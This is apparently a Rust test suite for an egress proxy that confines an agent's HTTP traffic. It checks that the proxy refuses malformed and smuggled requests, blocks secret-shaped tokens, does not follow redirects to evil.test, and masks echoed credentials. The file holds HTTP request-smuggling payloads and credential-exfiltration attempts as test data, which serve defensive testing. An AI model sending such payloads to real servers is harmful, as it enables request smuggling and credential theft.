        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nX Space: a\r\nContent-Length: 0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nNoColon\r\nContent-Length: 0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nX-CR: a\rb\r\n\r\n",
        b"POST /v1/x HTTP/1.0\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GET  /v1/x HTTP/1.1\r\nHost: api.test\r\n\r\n",
        b"GET /v1/x HTTP/1.2\r\nHost: api.test\r\n\r\n",
        b"GET /v1/x HTTP/2.0\r\nHost: api.test\r\n\r\n",
        b"GET /v1/x\r\n\r\n",
        b"GET /v1/x HTTP/1.1 extra\r\nHost: api.test\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nTransfer_Encoding: chunked\r\n\r\nhello",
        // Broken chunked bodies.
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffffffff\r\nx\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nx\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabcdef\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 99999999999999999999999\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: -1\r\n\r\n",
    ];
    for attack in attacks {
        let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
        put(&mut tls, attack).await;
        let mut all = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), tls.read_to_end(&mut all)).await;
        let text = String::from_utf8_lossy(&all).into_owned();
        let what = String::from_utf8_lossy(attack).into_owned();
        assert!(text.starts_with("HTTP/1.1 400"), "{what:?}: {text}");
        assert_eq!(
            status_lines(&text),
            1,
            "exactly one answer to {what:?}: {text}"
        );
        let lower = text.to_ascii_lowercase();
        assert!(
            lower.contains("x-bot-bottle-refusal: layer=protocol; rule="),
            "{what:?}: {text}"
        );
        assert!(lower.contains("layer: protocol"), "{what:?}: {text}");
    }
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_heads_on_the_proxy_listener_explain_themselves() {
    let h = harness().await;
    for req in [
        &b"GET http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\nX-Fold: a\r\n\tb\r\n\r\n"[..],
        b"GET http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        b"\x16\x03\x01\x00\xff\x01\x00\x00\xfb\x03\x03 tls on the plain port\r\n\r\n",
        b"GET http://pl ain.test/ HTTP/1.1\r\n\r\n",
    ] {
        let mut s = h.raw().await;
        let r = send(&mut s, req).await;
        let what = String::from_utf8_lossy(req).into_owned();
        let r = r.unwrap_or_else(|| panic!("{what:?}: no answer"));
        assert!(r.refused(400, "protocol"), "{what:?}: {r:?}");
    }
    assert!(
        h.wait_for_audit(|l| l["rule"] == "malformed-request" && l["verdict"] == "deny")
            .await,
        "{}",
        h.audit_text()
    );
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bare_lf_requests_are_read_as_one_request() {
    let h = harness().await;
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    put(&mut tls, b"GET /v1/lf HTTP/1.1\nHost: api.test\nX-A: 1\n\n").await;
    let r = read_response(&mut tls).await.unwrap();
    // RFC 9112 lets a recipient read a bare LF as a line end: served as exactly this request
    // (egress re-frames it, so the upstream never sees the bare LFs).
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(reqs.len(), 1);
    assert_eq!(reqs[0].path, "/v1/lf");
    assert_eq!(reqs[0].header_values("x-a"), ["1"]);
    assert_eq!(
        reqs[0].header_values("authorization"),
        [format!("Bearer {TOKEN}")]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn duplicate_equal_content_length_is_never_forwarded_twice() {
    let h = harness().await;
    let r = send_tunnel(
        &h,
        b"POST /v1/cl HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
    )
    .await
    .unwrap();
    // Equal duplicates are one length (RFC 9112 6.3); the upstream sees it once.
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(reqs.len(), 1);
    assert_eq!(reqs[0].header_values("content-length"), ["5"]);
    assert_eq!(reqs[0].body, b"hello");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pipelined_requests_are_each_checked() {
    let h = harness().await;
    // In a tunnel: allowed, then off the allowlist, then a secret.
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    let pipeline = format!(
        "GET /v1/first HTTP/1.1\r\nHost: api.test\r\n\r\n\
         GET /admin HTTP/1.1\r\nHost: api.test\r\n\r\n\
         GET /v1/third HTTP/1.1\r\nHost: api.test\r\nX-Leak: {AWS_KEY}\r\n\r\n\
         GET /v1/fourth HTTP/1.1\r\nHost: api.test\r\n\r\n"
    );
    put(&mut tls, pipeline.as_bytes()).await;
    let first = read_response(&mut tls).await.unwrap();
    let second = read_response(&mut tls).await.unwrap();
    let third = read_response(&mut tls).await.unwrap();
    let fourth = read_response(&mut tls).await.unwrap();
    assert_eq!(first.status, 200, "{first:?}");
    assert!(second.refused(403, "path-allowlist"), "{second:?}");
    assert!(third.refused(403, "secret-scan"), "{third:?}");
    assert_eq!(fourth.status, 200, "{fourth:?}");
    let seen: Vec<String> = h.tls.requests().iter().map(|q| q.path.clone()).collect();
    assert_eq!(seen, ["/v1/first", "/v1/fourth"]);
    // On the proxy listener: allowed, then another host.
    let mut s = h.raw().await;
    put(
        &mut s,
        b"GET http://plain.test/ok/1 HTTP/1.1\r\nHost: plain.test\r\n\r\n\
          GET http://evil.test/ok/2 HTTP/1.1\r\nHost: evil.test\r\n\r\n\
          GET http://plain.test/ok/3 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    )
    .await;
    let a = read_response(&mut s).await.unwrap();
    let b = read_response(&mut s).await.unwrap();
    let c = read_response(&mut s).await.unwrap();
    assert_eq!(a.status, 200);
    assert!(b.refused(403, "allowlist"), "{b:?}");
    assert!(c.refused(403, "host-mismatch"), "{c:?}");
    let seen: Vec<String> = h.plain.requests().iter().map(|q| q.path.clone()).collect();
    assert_eq!(seen, ["/ok/1"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn smuggled_request_behind_an_allowed_one_is_not_run() {
    let h = harness().await;
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    // The second request hides a CL+TE conflict whose body is a third request.
    put(&mut tls, b"GET /v1/first HTTP/1.1\r\nHost: api.test\r\n\r\n\
          POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n\
          0\r\n\r\nGET /admin HTTP/1.1\r\nHost: api.test\r\n\r\n",).await;
    let mut all = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), tls.read_to_end(&mut all)).await;
    let text = String::from_utf8_lossy(&all);
    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
    assert!(text.contains("HTTP/1.1 400"), "{text}");
    assert_eq!(status_lines(&text), 2, "{text}");
    let seen: Vec<String> = h.tls.requests().iter().map(|q| q.path.clone()).collect();
    assert_eq!(seen, ["/v1/first"]);
}

// ---------------------------------------------------------------------------------------------
// Credentials and secrets
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_credentials_in_any_spelling_are_replaced_on_an_auth_route() {
    let h = harness().await;
    let req = format!(
        "GET /v1/creds HTTP/1.1\r\nHost: api.test\r\n\
         authorization: Bearer {AGENT_TOKEN}\r\n\
         AUTHORIZATION: Basic YWdlbnQ6cGxhY2Vob2xkZXI=\r\n\
         Proxy-Authorization: Basic YWdlbnQ6cHJveHk=\r\n\
         Connection: keep-alive, X-Drop-Me\r\nX-Drop-Me: 1\r\n\r\n"
    );
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(reqs.len(), 1);
    assert_eq!(
        reqs[0].header_values("authorization"),
        [format!("Bearer {TOKEN}")]
    );
    assert!(reqs[0].header_values("proxy-authorization").is_empty());
    assert!(reqs[0].header_values("x-drop-me").is_empty());
    assert!(
        reqs[0]
            .headers
            .iter()
            .all(|(_, v)| !v.contains(AGENT_TOKEN) && !v.contains("YWdlbnQ6")),
        "{:?}",
        reqs[0].headers
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn naming_authorization_in_connection_does_not_drop_the_injected_credential() {
    let h = harness().await;
    let r = send_tunnel(
        &h,
        b"GET /v1/c HTTP/1.1\r\nHost: api.test\r\nConnection: Authorization, Host\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(
        reqs[0].header_values("authorization"),
        [format!("Bearer {TOKEN}")]
    );
    assert_eq!(reqs[0].header_values("host"), ["api.test"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_shapes_anywhere_are_refused_and_never_forwarded() {
    let h = harness().await;
    let cases: Vec<String> = vec![
        format!("GET /v1/{AWS_KEY} HTTP/1.1\r\nHost: api.test\r\n\r\n"),
        format!("GET /v1/q?key={GH_TOKEN} HTTP/1.1\r\nHost: api.test\r\n\r\n"),
        format!("GET /v1/q HTTP/1.1\r\nHost: api.test\r\nX-Api-Key: {ANTHROPIC_KEY}\r\n\r\n"),
        format!("GET /v1/q HTTP/1.1\r\nHost: api.test\r\nx-api-key: {ANTHROPIC_KEY}\r\n\r\n"),
        format!("GET /v1/q HTTP/1.1\r\nHost: api.test\r\nCookie: s={GH_TOKEN}\r\n\r\n"),
        format!("GET /v1/q HTTP/1.1\r\nHost: api.test\r\nX-Custom: token {GH_TOKEN}\r\n\r\n"),
        format!(
            "POST /v1/q HTTP/1.1\r\nHost: api.test\r\nContent-Length: {}\r\n\r\n{{\"k\":\"{AWS_KEY}\"}}",
            AWS_KEY.len() + 8
        ),
        // Split across chunks.
        format!(
            "POST /v1/q HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n8\r\n{}\r\n{:x}\r\n{}\r\n0\r\n\r\n",
            &GH_TOKEN[..8],
            GH_TOKEN.len() - 8,
            &GH_TOKEN[8..]
        ),
    ];
    for req in &cases {
        let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
        assert!(r.refused(403, "secret-scan"), "{req:?}: {r:?}");
    }
    // A secret-shaped bearer to a route that injects nothing (C5), every spelling.
    for name in ["Authorization", "authorization", "AUTHORIZATION"] {
        let req = format!(
            "GET https://open.test/x HTTP/1.1\r\nHost: open.test\r\n{name}: Bearer {GH_TOKEN}\r\n\r\n"
        );
        let mut tls = h.tunnel("open.test:443", "open.test").await.unwrap();
        let r = send(&mut tls, req.as_bytes()).await.unwrap();
        assert!(r.refused(403, "secret-scan"), "{name}: {r:?}");
    }
    // On plain HTTP too.
    let req =
        format!("GET http://plain.test/ok/x?t={AWS_KEY} HTTP/1.1\r\nHost: plain.test\r\n\r\n");
    let r = send_plain(&h, req.as_bytes()).await.unwrap();
    assert!(r.refused(403, "secret-scan"), "{r:?}");
    nothing_forwarded(&h);
    let audit = h.audit_text();
    assert!(
        !audit.contains(AWS_KEY) && !audit.contains(GH_TOKEN) && !audit.contains(ANTHROPIC_KEY)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proxy_authorization_never_travels_even_secret_shaped() {
    let h = harness().await;
    let req = format!(
        "GET https://open.test/x HTTP/1.1\r\nHost: open.test\r\nProxy-Authorization: Bearer {GH_TOKEN}\r\n\r\n"
    );
    let mut tls = h.tunnel("open.test:443", "open.test").await.unwrap();
    let r = send(&mut tls, req.as_bytes()).await.unwrap();
    // Addressed to the proxy: dropped, so there is nothing left to refuse.
    assert_eq!(r.status, 200, "{r:?}");
    assert!(
        h.tls
            .requests()
            .iter()
            .all(|q| q.headers.iter().all(|(_, v)| !v.contains(GH_TOKEN)))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn expect_continue_body_with_a_secret_is_refused() {
    let h = harness().await;
    let body = format!("{{\"key\": \"{AWS_KEY}\"}}");
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    put(&mut tls, format!(
            "POST /v1/up HTTP/1.1\r\nHost: api.test\r\nExpect: 100-continue\r\nContent-Length: {}\r\n\r\n",
            body.len()
        )
        .as_bytes(),).await;
    let first = read_response(&mut tls).await.unwrap();
    let last = if first.status == 100 {
        put(&mut tls, body.as_bytes()).await;
        read_response(&mut tls).await.unwrap()
    } else {
        first
    };
    assert!(last.refused(403, "secret-scan"), "{last:?}");
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_in_a_chunked_trailer_never_reaches_the_upstream() {
    let h = harness().await;
    let req = format!(
        "POST /v1/t HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Leak\r\n\r\n2\r\nhi\r\n0\r\nX-Leak: {AWS_KEY}\r\n\r\n"
    );
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    // Request trailers are not forwarded: the body is buffered and sent with a length.
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(h.tls.requests().len(), 1);
    assert!(h.tls.requests().iter().all(|q| {
        q.headers.iter().all(|(_, v)| !v.contains(AWS_KEY))
            && !String::from_utf8_lossy(&q.body).contains(AWS_KEY)
    }));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_upgrade_off_the_allowlist_is_refused() {
    let h = harness().await;
    let r = send_tunnel(&h, b"GET /admin/ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").await.unwrap();
    assert!(r.refused(403, "path-allowlist"), "{r:?}");
    let req = format!(
        "GET /v1/ws?t={GH_TOKEN} HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    );
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    assert!(r.refused(403, "secret-scan"), "{r:?}");
    nothing_forwarded(&h);
}

// ---------------------------------------------------------------------------------------------
// Limits and old protocol versions
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_heads_and_bodies_are_refused_with_an_explanation() {
    let limits = bot_bottle::sidecar::egress::limits::Limits {
        max_header_bytes: 16 * 1024,
        max_headers: 50,
        max_body_bytes: 4096,
        ..Default::default()
    };
    let h = start_with(
        &routes(),
        Options {
            limits,
            ..Default::default()
        },
    )
    .await;
    let long_url = format!(
        "GET http://plain.test/ok/{} HTTP/1.1\r\nHost: plain.test\r\n\r\n",
        "a".repeat(32 * 1024)
    );
    let big_header = format!(
        "GET http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\nX-Big: {}\r\n\r\n",
        "b".repeat(32 * 1024)
    );
    let many: String = (0..200).map(|i| format!("X-H{i}: v\r\n")).collect();
    let many = format!("GET http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\n{many}\r\n");
    for req in [long_url, big_header, many] {
        let mut s = h.raw().await;
        let r = send(&mut s, req.as_bytes()).await;
        let r = r.unwrap_or_else(|| panic!("no answer to {}", &req[..60]));
        assert!(
            matches!(r.status, 400 | 413 | 414 | 431),
            "{}: {r:?}",
            &req[..60]
        );
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{}: {r:?}",
            &req[..60]
        );
    }
    // Bodies: by Content-Length and chunked.
    let body = "z".repeat(8192);
    let req = format!(
        "POST /v1/b HTTP/1.1\r\nHost: api.test\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    assert!(r.refused(413, "limit"), "{r:?}");
    let req = format!(
        "POST /v1/b HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n",
        body.len()
    );
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    assert!(r.refused(413, "limit"), "{r:?}");
    // A declared length over the limit is refused before the body is asked for.
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    let r = send(
        &mut tls,
        b"POST /v1/b HTTP/1.1\r\nHost: api.test\r\nExpect: 100-continue\r\nContent-Length: 1000000000\r\n\r\n",
    )
    .await
    .unwrap();
    assert!(r.refused(413, "limit"), "no 100 Continue first: {r:?}");
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_1_0_requests_are_served_and_checked() {
    let h = harness().await;
    let r = send_plain(&h, b"GET http://plain.test/ok/old HTTP/1.0\r\n\r\n")
        .await
        .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.plain.requests();
    assert_eq!(reqs.len(), 1);
    assert_eq!(reqs[0].header_values("host"), ["plain.test"]);
    assert_eq!(
        reqs[0].header_values("authorization"),
        [format!("token {TOKEN}")]
    );
    let r = send_plain(&h, b"GET http://plain.test/secret HTTP/1.0\r\n\r\n")
        .await
        .unwrap();
    assert!(r.refused(403, "path-allowlist"), "{r:?}");
    let r = send_tunnel(&h, b"GET /v1/old HTTP/1.0\r\n\r\n")
        .await
        .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(reqs[0].header_values("host"), ["api.test"]);
    assert_eq!(h.plain.requests().len(), 1);
}

// ---------------------------------------------------------------------------------------------
// What comes back: redirects and echoed credentials
// ---------------------------------------------------------------------------------------------

/// A plain HTTP upstream that answers from a script keyed by path, echoing the
/// `Authorization` it received in the places a careless upstream might.
async fn echo_upstream() -> (std::net::SocketAddr, Heads) {
    head_recording_server(|head, mut s| async move {
        let path = head.split_whitespace().nth(1).unwrap_or("").to_string();
        let auth = head
            .lines()
            .find_map(|l| {
                let (k, v) = l.split_once(':')?;
                k.eq_ignore_ascii_case("authorization")
                    .then(|| v.trim().to_string())
            })
            .unwrap_or_default();
        let resp = match path.as_str() {
            "/redirect" => "HTTP/1.1 302 Found\r\nLocation: http://evil.test/steal\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_string(),
            "/header" => format!("HTTP/1.1 200 OK\r\nX-Echo: {auth}\r\nSet-Cookie: t={auth}; Path=/\r\nLocation: http://evil.test/?a={auth}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"),
            "/reason" => format!("HTTP/1.1 200 {auth}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"),
            "/chunked" => {
                let (a, b) = auth.split_at(auth.len() / 2);
                format!("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n{:x}\r\n{a}\r\n{:x}\r\n{b}\r\n0\r\nX-Echo: {auth}\r\n\r\n", a.len(), b.len())
            }
            "/gzip" => {
                use std::io::Write;
                let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
                // Long and repetitive: the token is Huffman-coded, never literal.
                let text = format!("you sent {auth}\n").repeat(200);
                e.write_all(text.as_bytes()).unwrap();
                let gz = e.finish().unwrap();
                let mut out = format!("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", gz.len()).into_bytes();
                out.extend_from_slice(&gz);
                let _ = s.write_all(&out).await;
                return;
            }
            "/br" => "HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 4\r\nConnection: close\r\n\r\n\x0b\x01\x7f\x03".to_string(),
            "/upgrade" => format!("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\nX-Echo: {auth}\r\n\r\n"),
            _ => format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{auth}", auth.len()),
        };
        let _ = s.write_all(resp.as_bytes()).await;
    })
    .await
}

async fn echo_harness() -> (Harness, Arc<Mutex<Vec<String>>>) {
    let (addr, seen) = echo_upstream().await;
    let h = start_with(
        &routes(),
        Options {
            extra_pins: vec![format!("echo.test={addr}")],
            ..Default::default()
        },
    )
    .await;
    (h, seen)
}

fn echo_req(path: &str) -> Vec<u8> {
    format!(
        "GET http://echo.test{path} HTTP/1.1\r\nHost: echo.test\r\nTE: trailers\r\nConnection: close\r\n\r\n"
    )
        .into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirects_are_passed_back_not_followed() {
    let (h, seen) = echo_harness().await;
    let r = send_plain(&h, &echo_req("/redirect")).await.unwrap();
    assert_eq!(r.status, 302, "{r:?}");
    assert_eq!(
        r.header("location").as_deref(),
        Some("http://evil.test/steal")
    );
    assert_eq!(
        seen.lock().unwrap().len(),
        1,
        "the proxy followed a redirect"
    );
    // Following it is the agent's own new request, refused like any other.
    let r = send_plain(
        &h,
        b"GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    )
    .await
    .unwrap();
    assert!(r.refused(403, "allowlist"), "{r:?}");
    assert!(!h.audit_text().contains(TOKEN));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn echoed_credential_is_masked_everywhere_in_the_response() {
    let (h, seen) = echo_harness().await;
    for path in ["/body", "/header", "/reason", "/chunked", "/gzip"] {
        let mut s = h.raw().await;
        put(&mut s, &echo_req(path)).await;
        let mut all = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut all)).await;
        let text = String::from_utf8_lossy(&all).into_owned();
        assert!(text.starts_with("HTTP/1.1 "), "{path}: {text}");
        assert!(!text.contains(TOKEN), "{path}: token leaked: {text}");
        // A compressed answer must not carry it either.
        if let Some(i) = all.windows(4).position(|w| w == b"\r\n\r\n") {
            let body = &all[i + 4..];
            let mut out = Vec::new();
            use std::io::Read;
            if flate2::read::GzDecoder::new(body)
                .read_to_end(&mut out)
                .is_ok()
            {
                assert!(
                    !String::from_utf8_lossy(&out).contains(TOKEN),
                    "{path}: token leaked in a compressed body"
                );
            }
            if path == "/gzip" {
                assert!(text.contains("you sent Bearer ****"), "{path}: {text}");
            }
        }
    }
    // Each request did carry the credential upstream.
    let heads = seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 5);
    assert!(heads.iter().all(|h| h.contains(&format!("Bearer {TOKEN}"))));
    assert!(!h.audit_text().contains(TOKEN));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn echoed_credential_is_masked_in_an_upgrade_answer() {
    let (h, _seen) = echo_harness().await;
    let mut s = h.raw().await;
    put(&mut s, b"GET http://echo.test/upgrade HTTP/1.1\r\nHost: echo.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").await;
    let head = read_head(&mut s).await;
    assert!(!head.contains(TOKEN), "{head}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_in_refused_targets_never_reach_the_audit_log() {
    let h = harness().await;
    // Refused for another reason first (host, path, host mismatch): still no secret logged.
    let r = connect_raw(
        &h,
        format!("CONNECT {AWS_KEY}.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes(),
    )
    .await
    .unwrap();
    assert_eq!(r.status, 403, "{r:?}");
    let req = format!("GET /admin/{AWS_KEY} HTTP/1.1\r\nHost: api.test\r\n\r\n");
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    assert_eq!(r.status, 403, "{r:?}");
    let req = format!("GET /v1/{AWS_KEY} HTTP/1.1\r\nHost: open.test\r\n\r\n");
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    assert_eq!(r.status, 403, "{r:?}");
    let req =
        format!("GET http://{AWS_KEY}.evil.test/ HTTP/1.1\r\nHost: {AWS_KEY}.evil.test\r\n\r\n");
    let r = send_plain(&h, req.as_bytes()).await.unwrap();
    assert_eq!(r.status, 403, "{r:?}");
    let req = format!("GET {AWS_KEY} HTTP/1.1\r\nHost: api.test\r\n\r\n");
    let r = send_plain(&h, req.as_bytes()).await.unwrap();
    assert_eq!(r.status / 100, 4, "{r:?}");
    let req = format!(
        "GET /v1/{AWS_KEY} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    );
    let _ = send_tunnel(&h, req.as_bytes()).await;
    let req = format!("{AWS_KEY} http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\n\r\n");
    let r = send_plain(&h, req.as_bytes()).await.unwrap();
    assert!(r.refused(403, "secret-scan"), "{r:?}");
    assert!(
        h.wait_for_audit(|l| l["rule"] == "content-length-with-transfer-encoding")
            .await
    );
    let audit = h.audit_text();
    assert!(!audit.contains(AWS_KEY), "{audit}");
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn odd_target_forms_inside_a_tunnel() {
    let h = harness().await;
    // The `host:port` form belongs to CONNECT alone.
    for req in [
        &b"GET open.test:443 HTTP/1.1\r\nHost: open.test\r\n\r\n"[..],
        b"GET open.test HTTP/1.1\r\nHost: open.test\r\n\r\n",
    ] {
        let mut tls = h.tunnel("open.test:443", "open.test").await.unwrap();
        let r = send(&mut tls, req).await.unwrap();
        assert!(r.refused(400, "protocol"), "{r:?}");
        assert_eq!(r.rule(), "authority-form-without-connect");
    }
    nothing_forwarded(&h);
    // `OPTIONS *` is forwarded as it is.
    let mut tls = h.tunnel("open.test:443", "open.test").await.unwrap();
    let r = send(&mut tls, b"OPTIONS * HTTP/1.1\r\nHost: open.test\r\n\r\n")
        .await
        .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(h.tls.requests()[0].path, "*");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_upstream_sees_the_length_egress_read() {
    let h = harness().await;
    let r = send_tunnel(
        &h,
        b"POST /v1/cl HTTP/1.1\r\nHost: api.test\r\nContent-Length: 005\r\n\r\nhello",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(reqs[0].header_values("content-length"), ["5"]);
    assert_eq!(reqs[0].body, b"hello");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_that_cannot_be_masked_is_refused_on_an_auth_route() {
    let (h, _seen) = echo_harness().await;
    let r = send_plain(&h, &echo_req("/br")).await.unwrap();
    assert!(r.refused(502, "upstream"), "{r:?}");
    assert_eq!(r.rule(), "uninspectable-response-encoding");
    assert!(
        h.wait_for_audit(
            |l| l["rule"] == "uninspectable-response-encoding" && l["verdict"] == "deny"
        )
        .await
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_upgrade_with_a_body_is_refused() {
    let h = harness().await;
    let req = format!(
        "GET /v1/ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nContent-Length: {}\r\n\r\n{AWS_KEY}",
        AWS_KEY.len()
    );
    let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
    assert!(r.refused(400, "protocol"), "{r:?}");
    assert_eq!(r.rule(), "upgrade-with-body");
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn h2c_upgrade_is_never_passed_on() {
    let h = harness().await;
    // h2c smuggling: an upstream that switches protocols would leave egress blind.
    let r = send_tunnel(
        &h,
        b"GET /v1/h2c HTTP/1.1\r\nHost: api.test\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(reqs.len(), 1);
    for name in ["upgrade", "http2-settings", "connection"] {
        assert!(
            reqs[0].header_values(name).is_empty(),
            "{name}: {:?}",
            reqs[0].headers
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malformed_head_after_a_served_one_is_explained_too() {
    let h = harness().await;
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    put(
        &mut tls,
        b"GET /v1/first HTTP/1.1\r\nHost: api.test\r\n\r\n\
          GET /v1/second HTTP/1.1\r\nHost: api.test\r\nX-Fold: a\r\n b\r\n\r\n",
    )
    .await;
    let first = read_response(&mut tls).await.unwrap();
    assert_eq!(first.status, 200, "{first:?}");
    let second = read_response(&mut tls).await.unwrap();
    assert!(second.refused(400, "protocol"), "{second:?}");
    assert_eq!(second.rule(), "malformed-request");
    let seen: Vec<String> = h.tls.requests().iter().map(|q| q.path.clone()).collect();
    assert_eq!(seen, ["/v1/first"]);
}

